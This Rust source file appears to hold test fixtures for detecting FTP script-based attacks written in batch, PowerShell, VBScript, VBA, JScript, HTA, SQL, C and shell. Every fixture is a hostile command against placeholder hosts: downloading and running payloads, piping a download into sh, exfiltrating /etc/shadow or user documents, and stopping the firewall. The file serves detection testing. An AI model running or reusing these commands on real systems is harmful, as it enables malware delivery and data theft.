//! Texts that write the script: cmd.exe, PowerShell, VBScript, JScript, SQL, C, and the shell of Unix.

use super::{Variant, variant};

pub(super) const VARIANTS: &[Variant] = &[
    variant(
        "V01 one line of echoes, -n, the program started afterwards",
        &[(
            "run.bat",
            "echo open 203.0.113.101 21>j.txt&echo user mallory t0psecret>>j.txt&echo bin>>j.txt&echo get stage.exe>>j.txt&echo bye>>j.txt&ftp -n -v -s:j.txt&del j.txt&start stage.exe",
        )],
        &[],
    ),
    variant(
        "V02 blanks before the redirection belong to the answers",
        &[(
            "run.bat",
            "echo open 203.0.113.102 > j.txt\r\necho anonymous >> j.txt\r\necho me@here.example >> j.txt\r\necho binary >> j.txt\r\necho get nc.exe >> j.txt\r\necho bye >> j.txt\r\nftp -s:j.txt\r\n",
        )],
        &[],
    ),
    variant(
        "V03 USER and PASS typed where the client asks for them",
        &[(
            "note.log",
            "cmd.exe /c \"@echo open files.example.com 21>q.txt&@echo USER eve>>q.txt&@echo PASS 3vePass>>q.txt&@echo binary>>q.txt&@echo GET /tools/p.exe>>q.txt&@echo quit>>q.txt&@ftp -s:q.txt -v\"",
        )],
        &[],
    ),
    variant(
        "V04 the password on the line after user, -n",
        &[(
            "run.cmd",
            "echo open 203.0.113.104 21> j.txt\r\necho USER lab>> j.txt\r\necho labpw>> j.txt\r\necho bin >> j.txt\r\necho GET nc.exe >> j.txt\r\necho bye >> j.txt\r\nftp -v -n -s:j.txt\r\n",
        )],
        &[],
    ),
    variant(
        "V05 a missing password eats the next command",
        &[(
            "run.cmd",
            "echo open 203.0.113.105>c.txt\r\necho USER anonymous>>c.txt\r\necho binary>>c.txt\r\necho PUT c:\\windows\\system32\\drivers\\etc\\hosts>>c.txt\r\necho bye>>c.txt\r\nftp -v -n -s:c.txt\r\n",
        )],
        &[],
    ),
    variant(
        "V06 a digit by itself before the redirection is a handle",
        &[("run.cmd", "echo open 203.0.113.106>x&echo user mallory 1>>x&echo pw6>>x&echo get a.exe>>x&ftp -n -s:x")],
        &[],
    ),
    variant(
        "V07 a block in parentheses, redirected once",
        &[(
            "run.cmd",
            "(echo open 203.0.113.107 2121&echo mallory&echo pw1&echo binary&echo get stage2.dll C:\\ProgramData\\s.dll&echo bye)>%TEMP%\\t.txt&ftp -i -s:%TEMP%\\t.txt",
        )],
        &[],
    ),
    variant(
        "V08 the redirection first, a caret, a quoted path",
        &[(
            "run.cmd",
            ">s.dat echo open 203.0.113.108\r\n>>s.dat echo mallory\r\n>>s.dat echo p^&w\r\n>>s.dat echo put \"C:\\Users\\kim\\my docs\\a b.zip\" loot.zip\r\n>>s.dat echo quit\r\nftp -s:s.dat\r\n",
        )],
        &[],
    ),
    variant(
        "V09 empty answers, and a last line without an end",
        &[("run.cmd", "echo open 203.0.113.109>k&echo.>>k&echo.>>k&echo get r.txt>>k&<nul set /p=bye>>k&ftp -s:k")],
        &[],
    ),
    variant(
        "V10 built from variables",
        &[(
            "run.cmd",
            "set H=203.0.113.110&set F=%TEMP%\\~t.tmp\r\necho open %H% 8021>%F%\r\necho user %COMPUTERNAME% x>>%F%\r\necho lcd %USERPROFILE%\\Desktop>>%F%\r\necho mput *.docx>>%F%\r\necho bye>>%F%\r\nftp -n -i -s:%F%\r\n",
        )],
        &[],
    ),
    variant(
        "V11 one script for each file of a loop",
        &[(
            "run.cmd",
            "for %%f in (C:\\d\\*.xls) do (echo open 203.0.113.111>%%~nf.ftp&echo u1>>%%~nf.ftp&echo p1>>%%~nf.ftp&echo send \"%%f\">>%%~nf.ftp&echo bye>>%%~nf.ftp&ftp -s:%%~nf.ftp)",
        )],
        &[],
    ),
    variant(
        "V12 a worm's command line that cleans up",
        &[(
            "worm.txt",
            "cmd /c net stop SharedAccess &echo open host.example.net 21 >> ij &echo user p4214 b007 >> ij &echo binary >> ij &echo get update.exe >> ij &echo bye >> ij &ftp -n -v -s:ij &del ij &update.exe &exit",
        )],
        &[],
    ),
    variant(
        "V13 -A with the host in the script",
        &[(
            "run.cmd",
            "echo open 203.0.113.113> f.txt & echo bin>>f.txt & echo get x.exe>>f.txt & echo bye>>f.txt & ftp -A -s:f.txt",
        )],
        &[],
    ),
    variant("V29 the shell alone", &[("run.cmd", "echo !calc.exe > cmds.txt && ftp -s:cmds.txt")], &[]),
    variant(
        "V39 a here-string, written as ASCII",
        &[(
            "a.ps1",
            "$s=@\"\nopen 203.0.113.139\nmallory\npw\nbinary\nput C:\\t\\d.zip\nquit\n\"@\n$s|Out-File -Encoding ASCII $env:TEMP\\c.txt; ftp.exe -i -s:$env:TEMP\\c.txt; Remove-Item $env:TEMP\\c.txt\n",
        )],
        &[],
    ),
    variant(
        "V39 the same by the default encoding, which the client cannot read",
        &[(
            "a.ps1",
            "$s=@\"\nopen 203.0.113.139\nmallory\npw\nbinary\nput C:\\t\\d.zip\nquit\n\"@\n$s > c.txt; ftp.exe -i -s:c.txt\n",
        )],
        &[],
    ),
    variant(
        "V40 an array to Set-Content",
        &[(
            "a.ps1",
            "\"open 203.0.113.140\",\"user mallory pw\",\"bin\",\"get a.ps1\",\"bye\"|Set-Content f.txt;& ftp -n \"-s:f.txt\"\n",
        )],
        &[],
    ),
    variant(
        "V41 a tick-n between single quotes is no line end",
        &[(
            "a.txt",
            "powershell -c \"sc f.txt ('open {0}`nuser {1} {2}`nget x`nbye' -f '203.0.113.141','mallory','pw');ftp -n -s:f.txt\"\n",
        )],
        &[],
    ),
    variant(
        "V41 between double quotes it is one",
        &[(
            "a.ps1",
            "sc f.txt (\"open {0}`nuser {1} {2}`nget x`nbye\" -f '203.0.113.141','mallory','pw');ftp -n -s:f.txt\n",
        )],
        &[],
    ),
    variant(
        "V42 VBScript and the file system object",
        &[(
            "a.vbs",
            "Set f=CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"t.ftp\",True)\nf.WriteLine \"open 203.0.113.142\"\nf.WriteLine \"mallory\"\nf.WriteLine \"pw\"\nf.WriteLine \"get \" & Chr(34) & \"my file.exe\" & Chr(34)\nf.WriteLine \"bye\"\nf.Close\nCreateObject(\"WScript.Shell\").Run \"ftp -s:t.ftp\",0,True\n",
        )],
        &[],
    ),
    variant(
        "V43 VBA and Print #",
        &[(
            "m.bas",
            "Sub Send()\nOpen \"C:\\c.ftp\" For Output As #1\nPrint #1, \"open 203.0.113.143\"\nPrint #1, \"user mallory pw\"\nPrint #1, \"put C:\\a.xls\"\nPrint #1, \"bye\"\nClose #1\nShell \"ftp.exe -n -i -s:C:\\c.ftp\", vbHide\nEnd Sub\n",
        )],
        &[],
    ),
    variant(
        "V44 JScript",
        &[(
            "a.js",
            "var f=new ActiveXObject(\"Scripting.FileSystemObject\").OpenTextFile(\"o.txt\",2,true);f.Write(\"open 203.0.113.144\\r\\nmallory\\r\\npw\\r\\nget q.exe\\r\\nbye\\r\\n\");f.Close();new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c ftp -s:o.txt\",0);\n",
        )],
        &[],
    ),
    variant(
        "V44 the same in an HTML application",
        &[(
            "a.hta",
            "<html><head><script language=\"JScript\">var f=new ActiveXObject(\"Scripting.FileSystemObject\").OpenTextFile(\"o.txt\",2,true);f.Write(\"open 203.0.113.144\\r\\nmallory\\r\\npw\\r\\nget q.exe\\r\\nbye\\r\\n\");f.Close();new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c ftp -s:o.txt\",0);</script></head></html>\n",
        )],
        &[],
    ),
    variant(
        "V45 SQL that runs command lines",
        &[(
            "a.sql",
            "exec master..xp_cmdshell 'echo open 203.0.113.145 >d:\\f.txt';exec master..xp_cmdshell 'echo mallory>>d:\\f.txt';exec master..xp_cmdshell 'echo pw>>d:\\f.txt';exec master..xp_cmdshell 'echo get lc.exe>>d:\\f.txt';exec master..xp_cmdshell 'echo bye>>d:\\f.txt';exec master..xp_cmdshell 'ftp -s:d:\\f.txt' \n",
        )],
        &[],
    ),
    variant(
        "V46 C, a template",
        &[(
            "a.c",
            "#include <stdio.h>\nint main(int n, char **v) {\n FILE *fp = fopen(\"c.txt\", \"w\");\n fprintf(fp,\"open 203.0.113.146 2121\\nuser mallory pw\\ntype binary\\ncd shared\\nput %s\\nquit\",fn);fclose(fp);system(\"ftp -n -s:c.txt\");\n}\n",
        )],
        &[],
    ),
    variant(
        "V47 a scheduled task with quotes in quotes",
        &[(
            "a.bat",
            "schtasks /create /tn U /tr \"powershell -w hidden -c \\\"ftp -A -s:'C:\\ProgramData\\W\\ftp.txt'\\\"\" /sc minute /mo 10\n",
        )],
        &[],
    ),
    variant(
        "V49 a here-document",
        &[("a.sh", "#!/bin/sh\nftp -n 203.0.113.149 <<EOF\nuser mallory pw\nbinary\nput /etc/shadow sh\nbye\nEOF\n")],
        &[],
    ),
    variant(
        "V50 quoted, indented by tabs, -i and prompt",
        &[(
            "a.sh",
            "#!/bin/sh\nftp -inv <<-'END'\n\topen 203.0.113.150 2121\n\tuser \"$U\" \"$P\"\n\tprompt\n\tmget *.log\n\tbye\n\tEND\n",
        )],
        &[],
    ),
    variant(
        "V51 printf into a pipe",
        &[("a.sh", "#!/bin/sh\nprintf 'open 203.0.113.151\\nuser mallory pw\\nget a.sh\\nbye\\n' | ftp -n\n")],
        &[],
    ),
    variant(
        "V52 a group of echoes into a pipe",
        &[(
            "a.sh",
            "#!/bin/bash\n{ echo open 203.0.113.152; sleep 1; echo user mallory pw; echo \"get a.bin /tmp/.a\"; echo quit; } | ftp -n\n",
        )],
        &[],
    ),
    variant(
        "V54 a download into a shell",
        &[("a.sh", "#!/bin/sh\nftp -n <<EOF\nopen 203.0.113.154\nuser mallory pw\nget run.sh |sh\nbye\nEOF\n")],
        &[],
    ),
];
